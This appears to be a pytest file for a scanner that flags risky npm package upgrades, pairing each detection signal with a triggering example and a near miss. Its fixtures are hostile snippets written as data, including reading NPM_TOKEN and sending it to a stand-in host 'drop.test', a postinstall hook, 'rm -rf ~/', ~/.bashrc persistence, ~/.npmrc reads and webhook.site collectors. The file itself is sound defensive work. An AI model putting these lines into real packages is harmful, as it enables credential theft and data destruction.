"""Tests of all signals: an example that gets the full weight, and a near miss."""

from dataclasses import replace
from datetime import datetime, timedelta

import pytest

from tests.support.upgrades import (
    LONG_AGO,
    NOW,
    PACKAGE,
    added_file,
    binary_file,
    changed_file,
    upgrade,
)
from worker.change import Change
from worker.risk import SIGNALS

B64 = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVph" * 8
READS_KEY = "const key = process.env.NPM_TOKEN"
SENDS = "https.get('https://drop.test/' + key)"
SCRIPT = {"scripts": {"postinstall": "node setup.js"}}
EXECUTES = "require('child_process').exec(x)"


def _code(*lines: str) -> Change:
    return upgrade(changed_file("lib/a.js", *lines))


def _large(old: int, new: int) -> Change:
    return upgrade(old_metadata={"unpacked_bytes": old}, new_metadata={"unpacked_bytes": new})


def _dated(old: datetime | None, new: datetime | None) -> Change:
    return upgrade(old_metadata={"published": old}, new_metadata={"published": new})


UNREAD = replace(added_file("lib/a.js", "x"), complete=False)
LONG = replace(changed_file("lib/a.js"), longest_line=5000, longest_line_before=80)
TRUSTED = {"publisher": "other", "provenance": True}
PROVEN = {"provenance": True}
# id: example with the full weight, near miss
EXAMPLES = {
    "scripts.lifecycle": (
        upgrade(new_manifest=SCRIPT),
        upgrade(old_manifest=SCRIPT, new_manifest=SCRIPT),
    ),
    "scripts.target": (
        upgrade(changed_file("setup.js", "x"), old_manifest=SCRIPT, new_manifest=SCRIPT),
        upgrade(changed_file("lib/setup.js", "x"), old_manifest=SCRIPT, new_manifest=SCRIPT),
    ),
    "scripts.other": (
        upgrade(new_manifest={"scripts": {"prepare": "husky"}}),
        upgrade(new_manifest={"scripts": {"test": "husky"}}),
    ),
    "manifest.bin": (
        upgrade(new_manifest={"bin": {"node": "a.js"}}),
        upgrade(old_manifest={"bin": {"node": "a.js"}}, new_manifest={"bin": {"node": "a.js"}}),
    ),
    "manifest.entry": (
        upgrade(new_manifest={"exports": {".": {"require": "./test/a.js"}}}),
        upgrade(new_manifest={"description": "./test/a.js"}),
    ),
    "manifest.identity": (
        upgrade(new_manifest={"name": "right-pad"}),
        upgrade(new_manifest={"version": "v1.2.1+b"}),
    ),
    "dependencies.new": (
        upgrade(new_manifest={"optionalDependencies": {"a": "1"}}),
        upgrade(
            old_manifest={"dependencies": {"a": "1"}}, new_manifest={"peerDependencies": {"a": "2"}}
        ),
    ),
    "dependencies.url": (
        upgrade(
            old_manifest={"dependencies": {"a": "1"}},
            new_manifest={"dependencies": {"a": "someone/a#main"}},
        ),
        upgrade(new_manifest={"dependencies": {"@scope/a": "^1.0.0-beta/2"}}),
    ),
    "dependencies.loose": (
        upgrade(new_manifest={"dependencies": {"a": "*"}}),
        upgrade(new_manifest={"dependencies": {"a": ">=1 <2"}, "peerDependencies": {"b": "*"}}),
    ),
    "dependencies.bundled": (
        upgrade(new_manifest={"bundleDependencies": ["a"]}),
        upgrade(
            old_manifest={"bundledDependencies": ["a"]}, new_manifest={"bundleDependencies": ["a"]}
        ),
    ),
    "files.native": (upgrade(binary_file("a.node", "elf")), upgrade(binary_file("a.node"))),
    "files.binary": (upgrade(binary_file("payload.dat")), upgrade(added_file("payload.dat", "x"))),
    "files.disguised": (upgrade(binary_file("logo.png", "pe")), upgrade(binary_file("logo.png"))),
    "files.hidden-name": (
        upgrade(added_file("lib/a\u202egnp.js", "x")),
        upgrade(added_file("lib/ünïcode-日本語.js", "x"), added_file(".eslintrc.js", "x")),
    ),
    "files.unread": (upgrade(UNREAD), upgrade(replace(UNREAD, complete=True))),
    "files.tooling": (
        upgrade(added_file(".github/workflows/a.yml", "x")),
        upgrade(added_file("docs/workflows/a.yml", "x")),
    ),
    "files.executable": (
        upgrade(added_file("a.sh", "x", executable=True)),
        upgrade(added_file("a.sh", "x")),
    ),
    "files.grown": (_large(10_000, 5_000_000), _large(10_000, 500_000)),
    "code.minified": (upgrade(LONG), upgrade(replace(LONG, longest_line_before=4000))),
    "code.off-screen": (_code("a" + " " * 200 + "b()"), _code(" " * 100 + "b()" + " " * 200)),
    "code.obfuscated": (_code("const _0x3f2a = 1"), _code("const flags = 0x3f2a, a_0x3f = 1")),
    "code.invisible": (
        _code("const a = `" + "\ufe01" * 40 + "`"),
        _code("const flag = '\U0001f468\u200d\U0001f4bb \u2764\ufe0f'"),
    ),
    "code.decode": (_code("crypto.createDecipheriv(a, b, c)"), _code("crypto.createCipheriv(a)")),
    "code.split-names": (_code("require('child_' + 'process')"), _code("say('chi' + 'ld')")),
    "code.odd-load": (
        _code("require('./test/data')"),
        _code("require('./testing/data'); glob('test/**/*.js')"),
    ),
    "code.eval": (_code("  window.eval(code)"), _code("client.eval(code); retrieval(x)")),
    "code.child-process": (_code("import 'node:child_process'"), _code("/a/.exec(text)")),
    "code.network": (_code("await fetch(url)"), _code("cache.fetch(key); prefetch(url)")),
    "code.environment": (
        _code("JSON.stringify(process.env)"),
        _code("processed.environment, preprocess.env"),
    ),
    "code.credentials": (_code("read(home + '/.npmrc')"), _code("read('x.npmrcs')")),
    "code.key-material": (_code("sign(privateKey)"), _code("sign(publicKey)")),
    "code.hook": (_code("window.fetch = mine"), _code("if (window.fetch == mine) a()")),
    "code.download": (_code("run('curl -s x')"), _code("curly('x')")),
    "code.destructive": (_code("run('rm -rf ~/')"), _code("run('rm -rf dist')")),
    "code.persistence": (_code("append('~/.bashrc', x)"), _code("append('bashrc', x)")),
    "code.publishing": (_code("run('npm publish')"), _code("run('npm install')")),
    "strings.host": (
        _code("load('https://cdn.test/a')"),
        _code("load('http://localhost:80'); load('https://www.example.com/')"),
    ),
    "strings.address": (
        _code("load('http://45.32.10.9/a')"),
        _code("ua('Chrome/120.0.0.0'); on('127.0.0.1'); on('10.1.2.3:80'); v = '1.2.3'"),
    ),
    "strings.collector": (_code("post('https://webhook.site/x')"), _code("'mywebhook.sites'")),
    "strings.wallet": (_code(f"to = '0x{'aB' * 20}'"), _code(f"sha1 = '{'ab' * 20}'")),
    "strings.encoded": (
        _code("d('aHR0cHM6Ly9kcm9wLnRlc3QvcGF0aA==')"),
        _code("d('aGVsbG8gd29ybGQgYW5kIGFsbA==')"),
    ),
    "version.fresh": (_dated(LONG_AGO, NOW - timedelta(hours=5)), _dated(NOW, LONG_AGO)),
    "version.dormant": (
        _dated(LONG_AGO - timedelta(days=800), LONG_AGO),
        _dated(None, LONG_AGO),
    ),
    "publisher.changed": (
        upgrade(new_metadata={"publisher": "other"}),
        upgrade(new_metadata={"publisher": None}),
    ),
    "provenance.lost": (
        upgrade(old_metadata=PROVEN),
        upgrade(old_metadata=PROVEN, new_metadata=PROVEN),
    ),
    "together.exfiltration": (
        _code(READS_KEY, SENDS),
        upgrade(changed_file("a.js", READS_KEY), changed_file("b.js", SENDS)),
    ),
    "together.dropper": (
        _code(SENDS, "eval(body)"),
        upgrade(changed_file("a.js", "eval(body)"), changed_file("b.js", SENDS)),
    ),
    "together.hidden-code": (
        _code("const a = crypto.createDecipher(x)", EXECUTES),
        upgrade(changed_file("a.js", "crypto.createDecipher(x)"), changed_file("b.js", EXECUTES)),
    ),
    "together.takeover": (
        upgrade(new_manifest={"dependencies": {"a": "1"}}, new_metadata={"publisher": "other"}),
        upgrade(new_manifest={"dependencies": {"a": "1"}}, new_metadata=TRUSTED),
    ),
}


def test_each_signal_has_examples():
    assert sorted(EXAMPLES) == sorted(SIGNALS)


@pytest.mark.parametrize("id_", EXAMPLES)
def test_a_signal_finds_its_example_with_full_weight_and_not_the_near_miss(id_: str):
    example, near_miss = EXAMPLES[id_]
    weights = [finding.weight for finding in SIGNALS[id_].findings(example, NOW)]
    assert max(weights, default=0) == SIGNALS[id_].weight
    assert list(SIGNALS[id_].detect(near_miss, NOW)) == []


def _weight(id_: str, change: Change) -> float:
    return max((finding.weight for finding in SIGNALS[id_].detect(change, NOW)), default=0)


@pytest.mark.parametrize(
    ("id_", "change", "weight"),
    [
        (
            "scripts.lifecycle",
            upgrade(old_manifest={"scripts": {"install": "a"}}, new_manifest=SCRIPT),
            0.8,
        ),
        (
            "scripts.lifecycle",
            upgrade(old_manifest={"scripts": {"postinstall": "a"}}, new_manifest=SCRIPT),
            0.6,
        ),
        ("scripts.lifecycle", upgrade(added_file("binding.gyp", "{}")), 0.8),
        ("manifest.bin", upgrade(new_manifest={"bin": "cli.js"}), 0.175),
        ("manifest.bin", upgrade(new_manifest={"bin": "cli.js", "name": "@scope/npm"}), 0.7),
        ("manifest.entry", upgrade(new_manifest={"main": "lib/index.js"}), 0.1),
        ("manifest.entry", upgrade(new_manifest={"main": "lib/index.txt"}), 0.4),
        ("dependencies.new", upgrade(new_manifest={"peerDependencies": {"a": "1"}}), 0.15),
        ("dependencies.url", upgrade(new_manifest={"dependencies": {"a": "npm:b@1"}}), 0.3),
        ("dependencies.bundled", upgrade(added_file("node_modules/a/index.js", "x")), 0.5),
        ("files.native", upgrade(binary_file("a.wasm", "wasm")), 0.3),
        ("files.native", upgrade(binary_file("a.node", "elf", modified=True)), 0.42),
        ("files.disguised", upgrade(added_file("logo.png", "require('x')")), 0.6),
        ("files.disguised", upgrade(binary_file("index.js", modified=True)), 0.8),
        ("files.disguised", upgrade(binary_file("test/video.ts")), 0.4),
        ("files.hidden-name", upgrade(added_file("lib/\u0440ath.js", "x")), 0.6),
        ("files.hidden-name", upgrade(added_file("logo.png.js", "x")), 0.6),
        ("files.hidden-name", upgrade(added_file("lib/.a.js", "x")), 0.32),
        ("files.unread", upgrade(replace(UNREAD, path="test/a.js")), 0.188),
        ("files.unread", upgrade(replace(UNREAD, path="a.json")), 0.15),
        ("files.unread", upgrade(replace(UNREAD, kind="binary")), 0.75),
        ("files.unread", upgrade(replace(UNREAD, kind="binary", path="model.dat")), 0),
        ("code.eval", upgrade(replace(changed_file("a.js", "\0eval(code)"), kind="binary")), 0.4),
        ("code.minified", upgrade(replace(LONG, status="added")), 0.25),
        ("code.minified", upgrade(replace(LONG, path="dist/a.js")), 0.2),
        ("code.environment", _code("if (process.env.NODE_ENV) a()"), 0.045),
        ("code.environment", _code("a = process.env['AWS_SECRET_ACCESS_KEY']"), 0.3),
        ("code.eval", _code("// eval(code)"), 0.1),
        ("code.eval", upgrade(changed_file("test/a.js", "eval(code)")), 0.1),
        ("code.eval", upgrade(changed_file("data.json", "eval(code)")), 0),
        ("strings.encoded", _code(f"a = '{B64}'"), 0.35),
        ("strings.encoded", _code(f"a = 'data:image/png;base64,{B64}'"), 0.175),
        ("version.fresh", _dated(None, NOW + timedelta(days=1)), 0.18),
        ("version.fresh", _dated(None, (NOW - timedelta(days=5)).replace(tzinfo=None)), 0.09),
        ("publisher.changed", upgrade(new_metadata=TRUSTED), 0.1),
        ("together.exfiltration", _code(READS_KEY, "fetch(url + key)"), 0.45),
    ],
)
def test_a_weaker_sign_has_a_lower_weight(id_: str, change: Change, weight: float):
    assert _weight(id_, change) == weight


def test_a_test_that_is_an_entry_point_counts_as_code():
    file = changed_file("test/start.js", "eval(code)")
    assert (
        _weight("code.eval", upgrade(file, new_manifest={"bin": {PACKAGE: "./test/start.js"}}))
        == 0.4
    )
    assert _weight("code.eval", upgrade(file, new_manifest={"main": "test/start"})) == 0.4
    assert _weight("code.eval", upgrade(file, new_manifest={"exports": {".": ["./test"]}})) == 0.4
    assert _weight("code.eval", upgrade(file, new_manifest={"exports": {".": ["./tests"]}})) == 0.1


def test_an_inlined_source_map_is_not_minified_code():
    line = "//# sourceMappingURL=data:application/json;base64," + "QUJD" * 1000
    mapped = changed_file("lib/a.js", line)
    assert mapped.longest_line > 4000
    assert _weight("code.minified", upgrade(mapped)) == 0
    assert _weight("code.minified", upgrade(changed_file("lib/a.js", line, "x;" * 2000))) == 0.5


def test_a_new_host_is_found_once_and_a_known_host_is_not_found():
    first, known = "load('https://a.test/1')", "load('https://b.test/1')"
    file = changed_file("lib/a.js", first, first, known)
    host = SIGNALS["strings.host"]
    assert [f.line for f in host.detect(upgrade(file), NOW)] == [10, 12]
    removed = upgrade(file, changed_file("lib/b.js", removed_lines=(known,)))
    assert [f.line for f in host.detect(removed, NOW)] == [10]
    manifest = {"repository": {"url": "git+https://B.test/x.git"}}
    assert [f.line for f in host.detect(upgrade(file, old_manifest=manifest), NOW)] == [10]


def test_a_comment_or_one_variable_is_not_part_of_a_combined_signal():
    change = _code("const proxy = process.env.HTTP_PROXY", "// see ~/.npmrc", "fetch(url)")
    assert _weight("code.credentials", change) > 0
    assert _weight("together.exfiltration", change) == 0


def test_a_document_that_is_an_entry_point_counts_as_code():
    file = changed_file("LICENSE.md", "eval(code)")
    assert _weight("code.eval", upgrade(file, new_manifest={"main": "./LICENSE.md"})) == 0.4
    exports = {"./l": "./LICENSE.md"}
    assert _weight("code.eval", upgrade(file, new_manifest={"exports": exports})) == 0.4
    exports = {"./LICENSE.md": "./LICENSE.md"}  # an importer names it itself
    assert _weight("code.eval", upgrade(file, new_manifest={"exports": exports})) == 0


def test_only_the_version_is_compared_without_a_leading_v():
    change = replace(upgrade(new_manifest={"name": "vite"}), package="vite")
    assert _weight("manifest.identity", change) == 0
    assert _weight("manifest.identity", upgrade(new_manifest={"version": "1.2.2"})) == 0.6


@pytest.mark.parametrize(
    "manifest",
    [
        {"scripts": [], "dependencies": None, "bin": 7, "exports": [[{"a": None}]], "main": {}},
        {"scripts": {"install": {}}, "dependencies": {"a": []}, "bundleDependencies": {"a": 1}},
        {"bundledDependencies": [[], 1], "name": None, "version": ["x"], "module": True},
    ],
)
def test_a_manifest_of_any_shape_is_accepted(manifest: dict[str, object]):
    change = upgrade(added_file("test/a.js", "x"), old_manifest=manifest, new_manifest=manifest)
    for signal in SIGNALS.values():
        list(signal.detect(change, NOW))
